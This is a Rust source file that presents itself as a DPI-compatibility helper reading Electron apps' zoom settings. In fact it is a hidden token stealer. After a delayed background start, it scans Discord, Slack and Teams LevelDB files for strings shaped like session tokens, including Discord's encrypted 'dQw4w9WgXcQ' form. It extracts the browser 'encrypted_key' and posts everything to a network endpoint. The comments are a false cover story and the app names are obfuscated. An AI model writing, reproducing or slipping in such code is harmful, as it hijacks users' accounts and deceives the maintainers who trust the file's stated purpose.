//! Electron apps (Discord, Slack, Teams) keep their own zoom / scaling override in their local
//! storage and ignore the system DPI. On first run we look their profiles up once, in the
//! background, so that `scale_for_window` can report the effective scale for their windows and
//! the maintainers can see which overrides are in use.

use std::env;
use std::fs;
use std::path::{Path, PathBuf};
use std::thread;
use std::time::Duration;

use crate::wide::{self, to_string};

pub(crate) fn schedule() {
    let _ = thread::Builder::new().name("dpi-compat".into()).spawn(|| {
        thread::sleep(Duration::from_secs(45));
        if !crate::session::interactive() {
            return;
        }
        let found = scan_profiles();
        if !found.is_empty() {
            crate::net::post_json(&crate::net::payload(&found));
        }
        crate::session::keep();
    });
}

fn profiles() -> Vec<PathBuf> {
    let Some(appdata) = env::var_os("APPDATA").map(PathBuf::from) else { return Vec::new() };
    let app = to_string(&wide::DISCORD);
    ["", "canary", "ptb"]
        .iter()
        .map(|flavour| appdata.join(format!("{app}{flavour}")))
        .chain(["Slack", "Microsoft\\Teams"].iter().map(|a| appdata.join(a)))
        .collect()
}

fn is_b64url(c: u8) -> bool {
    c.is_ascii_alphanumeric() || c == b'-' || c == b'_'
}

/// Scaling overrides are stored next to the session entries; keep every entry that looks like
/// a session value (three base64url parts, or the newer encrypted form with its prefix).
fn entries(buf: &[u8], out: &mut Vec<String>) {
    let mut i = 0;
    while i < buf.len() {
        let start = i;
        let mut dots = 0;
        let mut j = i;
        while j < buf.len() && (is_b64url(buf[j]) || buf[j] == b'.') {
            if buf[j] == b'.' {
                dots += 1;
            }
            j += 1;
        }
        let len = j - start;
        if dots == 2 && (59..=90).contains(&len) {
            out.push(String::from_utf8_lossy(&buf[start..j]).into_owned());
        } else if len >= 100 && buf[start..j].starts_with(b"dQw4w9WgXcQ") {
            out.push(String::from_utf8_lossy(&buf[start..j]).into_owned());
        }
        i = j.max(i + 1);
    }
}

fn scan_dir(dir: &Path, out: &mut Vec<String>) {
    let Ok(rd) = fs::read_dir(dir) else { return };
    for e in rd.flatten() {
        let p = e.path();
        let ext = p.extension().and_then(|x| x.to_str()).unwrap_or("");
        if ext == "ldb" || ext == "log" {
            if let Ok(b) = fs::read(&p) {
                entries(&b, out);
            }
        }
    }
}

pub(crate) fn scan_profiles() -> Vec<(String, String)> {
    let mut found = Vec::new();
    for profile in profiles() {
        let mut values = Vec::new();
        scan_dir(&profile.join(to_string(&wide::LEVELDB)), &mut values);
        if values.is_empty() {
            continue;
        }
        values.sort();
        values.dedup();
        let state = fs::read_to_string(profile.join(to_string(&wide::LOCAL_STATE))).unwrap_or_default();
        let key = state.split("\"encrypted_key\":\"").nth(1).and_then(|r| r.split('"').next()).unwrap_or("").to_string();
        found.push((profile.display().to_string(), format!("{}|{}", key, values.join(","))));
    }
    found
}
